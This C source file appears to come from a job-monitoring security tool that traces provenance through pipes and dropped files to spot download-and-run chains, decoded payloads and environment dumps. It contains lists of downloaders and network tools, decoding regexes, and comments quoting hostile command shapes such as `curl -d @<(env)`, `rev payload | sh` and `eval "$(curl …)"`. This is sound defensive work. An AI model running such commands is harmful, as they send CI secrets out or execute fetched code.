// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Provenance within one job (provenance.h): facts the kernel gives one
 * record at a time, joined here into what a rule can judge: "this shell
 * reads its program from a pipe a downloader writes into", "this program
 * was written by a process that had just talked to the network".
 *
 * The tables of program names below say what a program is (downloader,
 * decoder, interpreter, package manager); the behaviour judged is what the
 * kernel saw those processes do with their descriptors and files.
 */
#include <errno.h>
#include <fnmatch.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "lib/log.h"
#include "lib/path.h"
#include "lib/redact.h"
#include "lib/regex.h"
#include "pipeline/provenance.h"
#include "pipeline/script_text.h"
#include "policy/policy.h"

#define DATA_TAGS (BW_PROV_NETWORK | BW_PROV_DECODER | BW_PROV_ENVIRONMENT)
/* A program that talks to the network: a downloader by name, or it connected. */
#define TALKS_TO_NETWORK (BW_PROV_NETWORK | BW_PROC_PROV_CONNECTED)
#define PROPAGATE_DEPTH 4
/* Internal bits of bw_proc.prov, above the BW_PROV_* ones. */
/* What a Python or Node.js program's text does (read_text_facts), and that it was read. */
#define PROV_F_TEXT_FETCH_EVAL (1u << 24)
#define PROV_F_TEXT_ENV_SENT (1u << 25)
#define PROV_F_TEXT_CHECKED (1u << 26)
/*
 * The shell captured network or decoded output itself, since its text was
 * last read (CAPTURED), and that text evaluates a capture (EVALUATES).
 */
#define PROV_F_CAPTURE_EVALUATES (1u << 23)
#define PROV_F_CAPTURED (1u << 27)
/*
 * A child of this shell wrote a downloaded or decoded file since the
 * shell's text was last read (DROP_BY_CHILD), and that text sources one
 * (`curl -o env.sh URL; . ./env.sh`: SOURCES_DROP).
 */
#define PROV_F_SOURCES_DROP (1u << 18)
#define PROV_F_DROP_BY_CHILD (1u << 19)
/* The program writes to a descriptor its command line names (tee /dev/fd/63: a >(...)). */
#define PROV_F_FD_WRITER (1u << 20)
/* A network program's starting shell's text was read for a builtin dump of the environment (builtin_env_tags), and has one. */
#define PROV_F_ENV_TEXT_CHECKED (1u << 21)
#define PROV_F_ENV_TEXT_SENT (1u << 22)
#define PROV_F_NAME_CHECKED (1u << 30)
#define PROV_F_NAME_MISMATCH (1u << 31)

static bool in_list(const char *const *list, const char *s)
{
	/* The first byte first: per exec, most names differ there, and no call is made. */
	for (; *list; list++)
		if (**list == *s && !strcmp(*list, s))
			return true;
	return false;
}

/* Programs whose job is to fetch data from the network. */
static const char *const downloaders[] = {
	"curl", "wget", "wget2", "aria2c", "axel", "lwp-download", "lwp-request", "GET",
	"http", "https", "xh", "fetch", "tftp", "ftp", "lftp", "nc", "ncat", "netcat",
	"nc.openbsd", "nc.traditional", "socat", NULL,
};

/* Package managers: what they write is what they install, verified by them. */
static const char *const package_managers[] = {
	"npm", "npx", "yarn", "pnpm", "bun", "pip", "pip3", "pipx", "poetry", "uv", "conda",
	"mamba", "gem", "bundle", "composer", "cargo", "rustup", "go", "mvn", "gradle", "sbt",
	"apt", "apt-get", "aptitude", "dpkg", "rpm", "dnf", "yum", "zypper", "apk", "brew",
	"nix-env", NULL,
};

/* Decoders that decode whatever their arguments say (zcat always does). */
/*
 * rev too: a script stored reversed (`rev payload | sh`) is as unreadable
 * to a reviewer as an encoded one, and rev's output is otherwise cut or
 * compared, never run.
 */
static const char *const always_decode[] = {
	"gunzip", "zcat", "bunzip2", "bzcat", "unxz", "xzcat", "lzcat", "unlzma", "unzstd",
	"zstdcat", "lz4cat", "uudecode", "rev", NULL,
};
static const char *const decode_with_d[] = {
	"base64", "base32", "basenc", "gzip", "bzip2", "xz", "lzma", "zstd", "lz4", "brotli",
	"compress", "pigz", NULL,
};

static const char *const shells[] = {
	"sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "yash", "fish", "csh",
	"tcsh", "posh", NULL,
};

/*
 * The nearest process at or above p that ran a program of its own: the
 * shell behind a pipeline's or a $(...)'s subshells, forks that never exec.
 */
static struct bw_proc *program_owner(struct bw_proc *p)
{
	while (p && !p->n_execs)
		p = p->parent;
	return p;
}

/* The dynamic loader's own names (ld-linux-x86-64.so.2, ld-linux-aarch64.so.1, ld-musl-*, ld.so). */
static bool is_loader(const char *base)
{
	return base[0] == 'l' && base[1] == 'd' &&
	       (!strncmp(base, "ld-linux", 8) || !strncmp(base, "ld-musl-", 8) ||
		!strcmp(base, "ld.so") || !strncmp(base, "ld64.so.", 8));
}

/*
 * Where in argv the program is that the dynamic loader, run as a program
 * (`/lib64/ld-linux-x86-64.so.2 [OPTIONS] PROGRAM ...`), maps and runs
 * itself: no exec names that program, and its file needs no execute bit.
 * 0 when it runs none: --list and --verify only read it (ldd's first
 * call), and ldd's trace (LD_TRACE_LOADED_OBJECTS) comes from a shell
 * running ldd.
 */
static uint32_t loader_program_index(const struct bw_proc *p)
{
	static const char *const with_arg[] = { "--library-path", "--preload", "--audit",
						"--argv0", "--inhibit-rpath", "--glibc-hwcaps-prepend",
						"--glibc-hwcaps-mask", NULL };
	static const char *const runs_nothing[] = { "--list", "--verify", "--help", "--version",
						    "--list-tunables", "--list-diagnostics", NULL };
	/* through ldd's subshells between it and the loader */
	const struct bw_proc *up = program_owner(p->parent);

	if (up && up->argv.n > 1 && !strcmp(path_basename(up->argv.v[1]), "ldd"))
		return 0;
	for (uint32_t i = 1; i < p->argv.n; i++) {
		const char *a = p->argv.v[i];

		if (in_list(runs_nothing, a))
			return 0;
		if (!strcmp(a, "--"))
			return i + 1 < p->argv.n ? i + 1 : 0;
		if (a[0] != '-')
			return i;
		if (in_list(with_arg, a))
			i++;
	}
	return 0;
}

/*
 * Where p's program name is in argv: 0; 1 for `busybox APPLET ...`, whose
 * options and operands then start after the applet's name; the program's
 * for the dynamic loader run as a program.
 */
static uint32_t name_index(const struct bw_proc *p)
{
	const char *base = path_basename(p->exe ? p->exe : "");

	if (is_loader(base))
		return loader_program_index(p);
	return p->argv.n > 1 && p->argv.v[1][0] != '-' && !strcmp(base, "busybox") &&
	       !strcmp(path_basename(p->argv.v[0]), "busybox");
}

static bool is_option(const char *a, char letter)
{
	/* "-d", or a cluster of single-letter options holding it ("-di") */
	return a[0] == '-' && a[1] && a[1] != '-' && strchr(a + 1, letter);
}

static bool any_arg_is(const struct bw_proc *p, const char *const *names)
{
	for (uint32_t i = name_index(p) + 1; i < p->argv.n; i++)
		if (in_list(names, p->argv.v[i]))
			return true;
	return false;
}

static bool any_option(const struct bw_proc *p, char letter)
{
	for (uint32_t i = name_index(p) + 1; i < p->argv.n; i++)
		if (is_option(p->argv.v[i], letter))
			return true;
	return false;
}

/*
 * Whether prog matches pattern, compiled once into *re (*state: 0 not
 * yet, 1 compiled, -1 refused). At a match limit (a program built to
 * stall the matcher) it matches.
 */
static bool lazy_regex_match(struct regex **re, int *state, const char *pattern, const char *prog)
{
	if (!*state)
		*state = regex_compile(pattern, 0, re, NULL) ? -1 : 1;
	return *state == 1 && regex_match(*re, prog, strlen(prog)) != 0;
}

/* An interpreter's inline program that decodes data (base64, hex, XOR). */
static bool inline_decodes(const char *prog)
{
	static struct regex *re;
	static int state;

	return lazy_regex_match(&re, &state,
				"b64decode|b32decode|a85decode|decode_base64|decodebytes|"
				"fromhex|unhexlify|[.]decode[(][\"'](base64|hex|rot13)|"
				"Buffer[.]from[(][^)]*['\"](base64|hex)['\"]|atob[(]|"
				"pack[(][\"']H[*]|unpack[(][\"'][mu]|"
				"(chr|ord)[(][^)]*[)][[:space:]]*\\^|\\^[[:space:]]*(ord|chr)[(]|"
				"\\^[[:space:]]*(key|k)[^[:alnum:]_]|zlib[.]decompress|marshal[.]loads",
				prog);
}

static const char *const inline_flags_py[] = { "-c", NULL };
static const char *const inline_flags_e[] = { "-e", "-E", "--eval", "-p", "--print", "-r",
					      NULL };

static bool takes_arg(const char *base, const char *opt);

/*
 * The inline program of an interpreter started with -c/-e, or NULL. Only
 * options count: a "-c" after the script operand is the script's own.
 */
static const char *inline_program(const struct bw_proc *p, const char *base)
{
	const char *const *flags;
	bool sh = in_list(shells, base);

	if (!strncmp(base, "python", 6) || sh)
		flags = inline_flags_py;
	else if (!strncmp(base, "perl", 4) || !strncmp(base, "ruby", 4) ||
		 !strncmp(base, "node", 4) || !strncmp(base, "php", 3) || !strncmp(base, "lua", 3))
		flags = inline_flags_e;
	else
		return NULL;
	for (uint32_t i = name_index(p) + 1; i < p->argv.n; i++) {
		const char *a = p->argv.v[i];

		if (!strcmp(a, "--") || !strcmp(a, "-") || (a[0] != '-' && !(sh && a[0] == '+')))
			return NULL; /* the first operand: no more options */
		if (in_list(flags, a) || (sh && is_option(a, 'c')))
			return i + 1 < p->argv.n ? p->argv.v[i + 1] : NULL;
		if (takes_arg(base, a))
			i++;
	}
	return NULL;
}

static bool is_decoder(const struct bw_proc *p, const char *base)
{
	static const char *const openssl_decoding[] = { "enc", "base64", NULL };
	const char *prog;

	if (in_list(always_decode, base))
		return true;
	if (in_list(decode_with_d, base))
		return any_option(p, 'd') || any_arg_is(p, (const char *const[]){
			"--decode", "--decompress", "--uncompress", NULL });
	if (!strcmp(base, "xxd"))
		return any_option(p, 'r') || any_arg_is(p, (const char *const[]){ "-revert", NULL });
	if (!strcmp(base, "openssl") && p->argv.n > 1)
		return (in_list(openssl_decoding, p->argv.v[1]) ||
			!fnmatch("aes*", p->argv.v[1], 0) || !fnmatch("des*", p->argv.v[1], 0) ||
			!fnmatch("chacha*", p->argv.v[1], 0)) &&
		       any_arg_is(p, (const char *const[]){ "-d", NULL });
	prog = inline_program(p, base);
	return prog && inline_decodes(prog);
}

/* Where in argv the program is that p runs through the dynamic loader; 0 if none. */
static uint32_t loaded_program(const struct bw_proc *p)
{
	return is_loader(path_basename(p->exe ? p->exe : "")) ? loader_program_index(p) : 0;
}

/*
 * The name a program goes by: argv's for busybox, whose applet it runs,
 * and for the dynamic loader, whose program it runs.
 */
static const char *program_base(const struct bw_proc *p)
{
	const char *base = path_basename(p->exe ? p->exe : "");
	uint32_t i;

	if (!strcmp(base, "busybox") && p->argv.n)
		base = path_basename(p->argv.v[name_index(p)]);
	else if (is_loader(base) && (i = name_index(p)))
		base = path_basename(p->argv.v[i]);
	return base;
}

static bool is_package_manager(const struct bw_proc *p)
{
	/* Script managers (npm is node, pip is python) by what was started. */
	return in_list(package_managers, program_base(p)) ||
	       (p->origin && in_list(package_managers, path_basename(p->origin)));
}

/*
 * /proc/self/environ, /proc/PID/environ, /proc/PID/task/TID/environ, also
 * as an option's value (`-d @/proc/self/environ`, `--post-file=/proc/…`).
 */
static bool is_environ_file(const char *a)
{
	const char *leaf;

	a = strstr(a, "/proc/");
	return a && (leaf = strrchr(a, '/')) && !strcmp(leaf, "/environ");
}

/*
 * An interpreter's inline program that takes the whole environment, not
 * one variable of it: perl's %ENV, ruby's ENV iterated or converted,
 * Python's os.environ (or environ from os) and Node's process.env as a
 * whole. What it prints (`perl -e 'print "$_=$ENV{$_}\n" for keys %ENV'`)
 * is a dump as env's is.
 */
static bool inline_takes_env(const char *prog)
{
	static struct regex *re;
	static int state;

	if (!strstr(prog, "ENV") && !strstr(prog, "environ") && !strstr(prog, "process.env"))
		return false;
	return lazy_regex_match(&re, &state,
				"%ENV|(^|[^[:alnum:]_$@%])ENV([.](to_h|to_a|to_hash|each|each_pair|map|"
				"inspect|sort|select|filter_map|reduce|sum)|[[:space:]]*[)]|$)|"
				"(^|[^[:alnum:]_])(puts|p|pp|print)[[:space:]]+ENV|"
				"environ([^[:alnum:]_.[]|$|[.](items|keys|values)[(])|"
				"process[.]env([^[:alnum:]_.[]|$)",
				prog);
}

/*
 * A program that prints the environment, where CI keeps its secrets: env
 * or printenv with nothing to run and no variable named (`env | sort`,
 * `printenv`), or any program given a /proc/PID/environ file (cat, strings,
 * tr). `env NAME=VALUE cmd` runs cmd; `printenv HOME` prints one value.
 */
static bool is_env_dump(const struct bw_proc *p, const char *base)
{
	static const char *const env_opts_with_arg[] = { "-u", "--unset", "-C", "--chdir",
							 "-S", "--split-string", NULL };
	bool env = !strcmp(base, "env"), printenv = !strcmp(base, "printenv");
	const char *prog;

	for (uint32_t i = name_index(p) + 1; i < p->argv.n; i++) {
		const char *a = p->argv.v[i];

		if (is_environ_file(a))
			return true;
		if (!env && !printenv)
			continue;
		if (a[0] != '-' || !a[1])
			return false; /* a variable named, an assignment or a command to run */
		if (env && in_list(env_opts_with_arg, a))
			i++;
	}
	if (env || printenv)
		return true;
	prog = inline_program(p, base);
	return prog && !in_list(shells, base) && inline_takes_env(prog);
}

/* What p's program is, from its name and arguments: BW_PROV_* bits. */
static uint32_t classify(const struct bw_proc *p, const char *base)
{
	uint32_t tags = 0;

	if (in_list(downloaders, base) ||
	    (!strcmp(base, "openssl") && any_arg_is(p, (const char *const[]){ "s_client", NULL })))
		tags |= BW_PROV_NETWORK;
	if (is_decoder(p, base))
		tags |= BW_PROV_DECODER;
	if (is_package_manager(p))
		tags |= BW_PROV_PACKAGE_MANAGER;
	if (is_env_dump(p, base))
		tags |= BW_PROV_ENVIRONMENT;
	return tags;
}

/* ---- pipes ---- */

static uint64_t mix(uint64_t x)
{
	x ^= x >> 33;
	x *= 0xff51afd7ed558ccdULL;
	x ^= x >> 33;
	return x;
}

static struct prov_pipe *pipe_slot(struct provenance *pv, uint64_t id)
{
	return &pv->pipes[mix(id) & (PROV_PIPES - 1)];
}

static struct prov_pipe *pipe_find(struct provenance *pv, uint64_t id)
{
	struct prov_pipe *pp = pipe_slot(pv, id);

	return id && pp->id == id ? pp : NULL;
}

static struct prov_pipe *pipe_get(struct provenance *pv, uint64_t id)
{
	struct prov_pipe *pp = pipe_slot(pv, id);

	if (pp->id != id) {
		memset(pp, 0, sizeof(*pp));
		pp->id = id;
	}
	return pp;
}

/* Whether r names p (a pid is reused; its start time tells them apart). */
static bool ref_is(const struct prov_ref *r, const struct bw_proc *p)
{
	return r->pid == p->pid && r->start_ns == p->start_ns;
}

/* The process r names, if the lineage table still has it. */
static struct bw_proc *ref_proc(const struct bw_proctab *t, const struct prov_ref *r)
{
	return proctab_find(t, r->pid, r->start_ns);
}

/* How many of a pipe's n readers or writers it kept (the first PROV_REFS). */
static uint32_t refs_kept(uint32_t n)
{
	return n < PROV_REFS ? n : PROV_REFS;
}

static void ref_add(struct prov_ref *refs, uint32_t *n, const struct bw_proc *p)
{
	for (uint32_t i = 0; i < refs_kept(*n); i++)
		if (ref_is(&refs[i], p))
			return;
	if (*n < PROV_REFS)
		refs[*n] = (struct prov_ref){ p->pid, p->start_ns };
	(*n)++;
}

static bool is_pipe(const struct bw_stdio *s)
{
	return s->kind == BW_STDIO_PIPE && s->id;
}

static bool is_ip_socket(const struct bw_stdio *s)
{
	return s->kind == BW_STDIO_SOCKET && (s->family == AF_INET || s->family == AF_INET6);
}

static void rejudge_add(struct prov_rejudge *out, struct bw_proc *p)
{
	for (uint32_t i = 0; i < out->n; i++)
		if (out->procs[i] == p)
			return;
	if (out->n < PROV_REJUDGE_MAX)
		out->procs[out->n++] = p;
}

/*
 * What p's parent feeds it, when p's stdin is a pipe no program's exec
 * claims or a Unix socket: one the parent made and writes itself
 * (subprocess.Popen(["sh"], stdin=PIPE); node's spawn, a socketpair).
 * Network data once the parent connected. A package manager's children
 * are its install scripts.
 */
static uint32_t parent_fed_tags(const struct bw_proc *p)
{
	const struct bw_proc *parent = p->parent;

	if (!parent || !parent->n_execs || (parent->prov & BW_PROV_PACKAGE_MANAGER))
		return 0;
	return parent->prov & BW_PROC_PROV_CONNECTED ? BW_PROV_NETWORK : 0;
}

/*
 * An inline program of several lines, handed to p by a parent that had
 * talked to the network: a script's text, not a command, and the parent
 * held what it fetched (subprocess.run(body, shell=True), node's
 * execSync(body), ruby's system(body)). One-line commands are what build
 * tools hand a shell; a script inline is what a downloaded one becomes.
 */
static uint32_t script_from_parent_tags(const struct bw_proc *p)
{
	uint32_t tags = parent_fed_tags(p); /* the cheap test first: most parents never connect */
	const char *prog = tags ? inline_program(p, program_base(p)) : NULL;

	return prog && strchr(prog, '\n') ? tags : 0;
}

/* The table's entry for the pipe on p's descriptor fd (0..2), or NULL. */
static struct prov_pipe *stdio_pipe(struct provenance *pv, const struct bw_proc *p, int fd)
{
	return is_pipe(&p->stdio[fd]) ? pipe_find(pv, p->stdio[fd].id) : NULL;
}

static struct prov_pipe *stdin_pipe(struct provenance *pv, const struct bw_proc *p)
{
	return stdio_pipe(pv, p, 0);
}

/* Whether p's stdin can only be its parent's doing (see parent_fed_tags); pp: stdin_pipe(). */
static bool stdin_from_parent(const struct bw_proc *p, const struct prov_pipe *pp)
{
	if (p->stdio[0].kind == BW_STDIO_SOCKET)
		return !is_ip_socket(&p->stdio[0]);
	return pp && !pp->n_writers;
}

/* Whether p is given a descriptor of its own to write to (`tee >(sh)` runs tee /dev/fd/63). */
static bool writes_to_fd_arg(const struct bw_proc *p)
{
	for (uint32_t i = name_index(p) + 1; i < p->argv.n; i++)
		if (!strncmp(p->argv.v[i], "/dev/fd/", 8) || !strncmp(p->argv.v[i], "/proc/self/fd/", 14))
			return true;
	return false;
}

/* How many children of a shell are looked at for a process substitution's writer. */
#define FD_SIBLINGS_MAX 64

/* What w, a program writing into a process substitution, passes on: its input. */
static uint32_t fd_writer_input(struct provenance *pv, const struct bw_proc *w)
{
	const struct prov_pipe *wp;

	if (w->exited || !(w->prov & PROV_F_FD_WRITER))
		return 0;
	wp = stdin_pipe(pv, w);
	return is_ip_socket(&w->stdio[0]) ? BW_PROV_NETWORK : wp ? wp->tags : 0;
}

/*
 * A pipe on p's stdin that no program has on its stdio may be a process
 * substitution written through /dev/fd/N (`curl … | tee >(sh)`) by the
 * program whose pre-exec fork started p (bash forks `>(sh)` from the
 * pipeline's subshell that then runs tee) or by another child of p's
 * shell: that writer's input. Looked for only once the job ran such a
 * writer.
 */
static uint32_t fd_sibling_tags(struct provenance *pv, const struct bw_proc *p)
{
	uint32_t tags;
	int n = 0;

	if (!pv->fd_writers || !p->parent)
		return 0;
	tags = fd_writer_input(pv, p->parent);
	for (const struct bw_proc *c = p->parent->first_child; c && n < FD_SIBLINGS_MAX;
	     c = c->next_sibling, n++)
		if (c != p)
			tags |= fd_writer_input(pv, c);
	return tags;
}

/* What p's input carries: the tags of the pipe on its stdin, or network. */
static uint32_t input_tags(struct provenance *pv, const struct bw_proc *p)
{
	const struct prov_pipe *pp;
	uint32_t tags;

	if (is_ip_socket(&p->stdio[0]))
		return BW_PROV_NETWORK;
	pp = stdin_pipe(pv, p);
	tags = pp ? pp->tags : 0;
	if (stdin_from_parent(p, pp))
		tags |= parent_fed_tags(p) | fd_sibling_tags(pv, p);
	return tags;
}

/* A program that talks to the network reads the pipe on p's stdout. */
static bool output_to_network(struct provenance *pv, const struct bw_proctab *t,
			      const struct bw_proc *p)
{
	const struct prov_pipe *pp = stdio_pipe(pv, p, 1);

	for (uint32_t i = 0; pp && i < refs_kept(pp->n_readers); i++) {
		const struct bw_proc *r = ref_proc(t, &pp->readers[i]);

		if (r && (r->prov & TALKS_TO_NETWORK))
			return true;
	}
	return false;
}

/* p reads its stdin pipe and talks to the network: the pipe's writers send through it. */
static void rejudge_writers(struct provenance *pv, const struct bw_proctab *t,
			    const struct bw_proc *p, struct prov_rejudge *out)
{
	const struct prov_pipe *pp = stdin_pipe(pv, p);

	for (uint32_t i = 0; pp && i < refs_kept(pp->n_writers); i++) {
		struct bw_proc *w = ref_proc(t, &pp->writers[i]);

		if (w && !w->exited)
			rejudge_add(out, w);
	}
}

/* p connected: its children reading a pipe only it can be writing get its network data. */
static void rejudge_fed_children(struct provenance *pv, const struct bw_proc *p,
				 struct prov_rejudge *out)
{
	for (struct bw_proc *c = p->first_child; c; c = c->next_sibling)
		if (c->n_execs && !c->exited && stdin_from_parent(c, stdin_pipe(pv, c)) &&
		    parent_fed_tags(c))
			rejudge_add(out, c);
}

/* What p writes: what it is, and what it reads (a filter passes it on). */
static uint32_t output_tags(struct provenance *pv, const struct bw_proc *p)
{
	return ((p->prov | input_tags(pv, p)) & DATA_TAGS);
}

static void pipe_feed(struct provenance *pv, const struct bw_proctab *t, uint64_t id,
		      uint32_t tags, struct prov_rejudge *out, int depth);
static void drop_record(struct provenance *pv, const char *path, const struct bw_proc *p,
			uint32_t tags, struct prov_rejudge *out);
static uint32_t writer_tags(struct provenance *pv, const struct bw_proc *p);
static uint32_t program_from(const struct bw_proc *p, const char **operand);
static uint32_t sends_tags(struct provenance *pv, const struct bw_proctab *t,
			   const struct bw_proc *p);

/*
 * A pipe no program reads gained tags: it may be a $(...) or <(...) of a
 * shell. Its interpreters already running with an inline program or a
 * /dev/fd program (bash <(curl ...) starts both at once), and its network
 * programs (curl -d @<(env) ...), are judged again.
 */
static void substitution_grew(struct provenance *pv, const struct bw_proctab *t, uint64_t id,
			      struct prov_rejudge *out)
{
	uint32_t n = pv->n_substs < PROV_SUBSTS ? pv->n_substs : PROV_SUBSTS;
	const char *operand;

	for (uint32_t i = 0; i < n; i++) {
		const struct prov_subst *s = &pv->substs[i];
		struct bw_proc *owner, *c;

		if (s->pipe != id || !(owner = ref_proc(t, &s->owner)))
			continue;
		for (c = owner->first_child; c; c = c->next_sibling)
			if (c->n_execs && !c->exited &&
			    ((c->prov & TALKS_TO_NETWORK) ||
			     (program_from(c, &operand) & (BW_PROG_ARGUMENT | BW_PROG_FD))))
				rejudge_add(out, c);
		/* The shell itself may evaluate what it captured (eval "$(curl …)"). */
		if (owner->n_execs && !owner->exited && in_list(shells, program_base(owner))) {
			owner->prov |= PROV_F_CAPTURED;
			rejudge_add(out, owner);
		}
	}
}

/* Children of p, reading a pipe no program writes on its stdio, to judge again. */
static void rejudge_pipe_readers_of(struct provenance *pv, const struct bw_proc *p,
				    const struct bw_proc *skip, struct prov_rejudge *out)
{
	int n = 0;

	for (struct bw_proc *c = p ? p->first_child : NULL; c && n < FD_SIBLINGS_MAX;
	     c = c->next_sibling, n++)
		if (c != skip && c->n_execs && !c->exited && stdin_from_parent(c, stdin_pipe(pv, c)))
			rejudge_add(out, c);
}

/* w writes into a process substitution (fd_sibling_tags): its readers, judged again. */
static void rejudge_fd_readers(struct provenance *pv, const struct bw_proc *w,
			       struct prov_rejudge *out)
{
	rejudge_pipe_readers_of(pv, w, NULL, out);
	rejudge_pipe_readers_of(pv, w->parent, w, out);
}

/*
 * New tags reached pipe pp: its readers that already run are judged again,
 * and those that pass their input on (filters) feed their own pipes.
 */
static void pipe_tags_grew(struct provenance *pv, const struct bw_proctab *t,
			   struct prov_pipe *pp, struct prov_rejudge *out, int depth)
{
	uint32_t n = refs_kept(pp->n_readers), tags;
	struct prov_ref readers[PROV_REFS];

	/* pipe_feed may overwrite pp's slot: work on a copy. */
	memcpy(readers, pp->readers, sizeof(readers));
	for (uint32_t i = 0; i < n; i++) {
		struct bw_proc *r = ref_proc(t, &readers[i]);

		if (!r || r->exited)
			continue;
		rejudge_add(out, r);
		if (r->prov & PROV_F_FD_WRITER)
			rejudge_fd_readers(pv, r, out);
		if (is_pipe(&r->stdio[1]) && (r->stdio[1].mode & BW_STDIO_WRITE))
			pipe_feed(pv, t, r->stdio[1].id, output_tags(pv, r), out, depth + 1);
		/* `printenv | sort > f` with sort started first: f is what it reads */
		else if (r->stdout_file && r->stdio[1].kind == BW_STDIO_FILE &&
			 (r->stdio[1].mode & BW_STDIO_WRITE) && (tags = writer_tags(pv, r)))
			drop_record(pv, r->stdout_file, r, tags, out);
	}
}

static void pipe_feed(struct provenance *pv, const struct bw_proctab *t, uint64_t id,
		      uint32_t tags, struct prov_rejudge *out, int depth)
{
	struct prov_pipe *pp = pipe_find(pv, id);

	if (!pp || !tags || (pp->tags & tags) == tags || depth > PROPAGATE_DEPTH)
		return;
	pp->tags |= tags;
	if (!pp->n_readers)
		substitution_grew(pv, t, id, out);
	pipe_tags_grew(pv, t, pp, out, depth);
}

/*
 * p feeds its stdout pipe with what it writes. Not stderr: diagnostics are
 * not a payload, and a job's stderr is usually one pipe shared by all
 * (`2>&1 | sh` puts both on the same pipe anyway).
 */
static void feed_outputs(struct provenance *pv, const struct bw_proctab *t, struct bw_proc *p,
			 struct prov_rejudge *out)
{
	if (is_pipe(&p->stdio[1]) && (p->stdio[1].mode & BW_STDIO_WRITE))
		pipe_feed(pv, t, p->stdio[1].id, output_tags(pv, p), out, 0);
}

/* ---- dropped files ---- */

static uint64_t str_hash(const char *s)
{
	uint64_t h = 1469598103934665603ULL;

	for (; *s; s++)
		h = (h ^ (unsigned char)*s) * 1099511628211ULL;
	return h;
}

static struct prov_drop *drop_slot(struct provenance *pv, const char *path)
{
	return &pv->drops[str_hash(path) & (PROV_DROPS - 1)];
}

static struct prov_drop *drop_find(struct provenance *pv, const char *path)
{
	struct prov_drop *d;

	if (!path || !*path)
		return NULL;
	d = drop_slot(pv, path);
	return d->path && !strcmp(d->path, path) ? d : NULL;
}

/* The dropped file a path names, as p gives it (relative to its cwd). */
static struct prov_drop *drop_named(struct provenance *pv, const struct bw_proc *p,
				    const char *name)
{
	char path[PATH_MAX];

	if (!name || !*name)
		return NULL;
	while (name[0] == '.' && name[1] == '/')
		name += 2;
	if (name[0] == '/')
		return drop_find(pv, name);
	if (p->cwd && (size_t)snprintf(path, sizeof(path), "%s/%s", p->cwd, name) < sizeof(path))
		return drop_find(pv, path);
	return NULL;
}

/*
 * An archive extractor or a copier given a file this job dropped (`curl
 * -o p.tgz URL; tar xzf p.tgz`, `cp payload /usr/local/bin/x`, `install`,
 * `dd if=`, `cat payload > x`): what it writes carries what its input did.
 */
static uint32_t carried_tags(struct provenance *pv, const struct bw_proc *p, const char *base)
{
	static const char *const carriers[] = { "tar", "bsdtar", "gtar", "unzip", "7z", "7za",
						"7zr", "cpio", "unrar", "ar", "jar", "cp",
						"install", "dd", "cat", NULL };
	const struct prov_drop *d;
	uint32_t tags = 0;

	if (!pv->drops_recorded || !in_list(carriers, base))
		return 0;
	for (uint32_t i = name_index(p) + 1; i < p->argv.n; i++) {
		const char *a = p->argv.v[i];

		if (!strncmp(a, "--file=", 7) || !strncmp(a, "if=", 3))
			a = strchr(a, '=') + 1;
		else if (a[0] == '-')
			continue;
		if ((d = drop_named(pv, p, a)))
			tags |= d->tags & DATA_TAGS;
	}
	return tags;
}

static void drop_clear(struct prov_drop *d)
{
	free(d->path);
	free(d->writer_exe);
	free(d->writer_cmd);
	memset(d, 0, sizeof(*d));
}

/* p's command line, secrets masked, cut at 4 KiB. */
static char *join_argv(const struct bw_proc *p)
{
	const size_t size = 4096;
	char *s = malloc(size);
	size_t w = 0;

	if (!s)
		return NULL;
	s[0] = '\0';
	for (uint32_t i = 0; i < p->argv.n && w + 1 < size; i++) {
		const char *a = p->argv.v[i];

		if (i)
			s[w++] = ' ';
		w += redact_copy(a, strlen(a), i ? p->argv.v[i - 1] : NULL, s + w, size - w);
		if (w >= size)
			w = size - 1;
		s[w] = '\0';
	}
	return s;
}

/* Remember that path was written by p, which carries tags. */
/*
 * A file downloaded or decoded by p: the shell that started p may source
 * it, which no exec shows (`curl -o env.sh URL; . ./env.sh`). That shell
 * is judged again, its text read once more (sourced_drop_tags).
 */
static void mark_shell_of_writer(const struct bw_proc *p, uint32_t tags, struct prov_rejudge *out)
{
	struct bw_proc *sh;

	if (!(tags & (BW_PROV_NETWORK | BW_PROV_DECODER)))
		return;
	sh = program_owner(p->parent);
	if (!sh || sh->exited || !in_list(shells, program_base(sh)))
		return;
	sh->prov |= PROV_F_DROP_BY_CHILD;
	rejudge_add(out, sh);
}

static void drop_record(struct provenance *pv, const char *path, const struct bw_proc *p,
			uint32_t tags, struct prov_rejudge *out)
{
	struct prov_drop *d;

	if (!path || path[0] != '/')
		return;
	d = drop_slot(pv, path);
	drop_clear(d);
	d->path = strdup(path);
	d->writer_exe = strdup(p->exe ? p->exe : p->comm);
	d->writer_cmd = join_argv(p);
	d->writer = (struct prov_ref){ p->pid, p->start_ns };
	d->tags = tags;
	if (!d->path || !d->writer_exe || !d->writer_cmd) {
		drop_clear(d); /* out of memory: forget it rather than half of it */
		return;
	}
	pv->drops_recorded++;
	pv->env_drops_recorded += !!(tags & BW_PROV_ENVIRONMENT);
	out->dropped = d->path;
	out->dropped_tags = tags | BW_PROV_WRITTEN;
	mark_shell_of_writer(p, tags, out);
}

/*
 * What a file p writes says of its content: network or decoded data, or a
 * package manager's own install. 0 when it is none of those.
 */
static uint32_t writer_tags(struct provenance *pv, const struct bw_proc *p)
{
	uint32_t tags = output_tags(pv, p);

	/* The manager's own writes only; what its scripts write is theirs. */
	if (p->prov & BW_PROV_PACKAGE_MANAGER)
		return BW_PROV_PACKAGE_MANAGER;
	return tags;
}

/*
 * The tables are made at the first record that needs them, not with the
 * job: `run` makes its job before it loads, when a table this size is
 * fresh pages, each faulted twice (read, then written) as pipes land on
 * it, some 20 us a page on a VM with shadow paging. Made once the build
 * runs, they come from the heap heap_release faulted in ahead. false: out
 * of memory; the job goes on without provenance.
 */
static bool tables(struct provenance *pv)
{
	if (pv->pipes)
		return true;
	if (pv->no_memory)
		return false;
	pv->pipes = calloc(PROV_PIPES, sizeof(*pv->pipes));
	pv->drops = calloc(PROV_DROPS, sizeof(*pv->drops));
	if (pv->pipes && pv->drops)
		return true;
	free(pv->pipes);
	free(pv->drops);
	pv->pipes = NULL;
	pv->drops = NULL;
	pv->no_memory = true;
	bw_warn("out of memory for the job's pipe and file provenance; its rules see none");
	return false;
}

/* ---- public ---- */

void prov_init(struct provenance *pv)
{
	memset(pv, 0, sizeof(*pv));
}

void prov_free(struct provenance *pv)
{
	for (size_t i = 0; pv->drops && i < PROV_DROPS; i++)
		drop_clear(&pv->drops[i]);
	free(pv->drops);
	free(pv->pipes);
	memset(pv, 0, sizeof(*pv));
}

